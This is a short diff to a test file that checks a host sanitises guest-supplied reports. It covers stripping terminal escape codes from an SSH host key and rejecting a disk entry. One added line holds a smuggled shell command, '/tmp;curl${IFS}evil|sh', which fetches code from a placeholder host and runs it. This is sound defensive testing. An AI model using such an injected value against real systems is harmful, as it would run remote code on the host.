@@ -288,6 +288,8 @@ test("what a guest says cannot move the reader's cursor", () => {
   const { report } = state({ "host-key": ["\u001b[2Jssh-ed25519\u0007 \u009bAAAA"], disk: ["no disk", "x y z"] });
   expect(report.sshd.hostKey).toBe("[2Jssh-ed25519   AAAA");
   expect(report.disks).toEqual([]);
+  // What is told to be full is named in a command for the host.
+  expect(state({ disk: ["/tmp;curl${IFS}evil|sh 4096 200000 0 50000 0"] }).report.disks).toEqual([]);
 });
 
 test.each<[string, unknown]>([
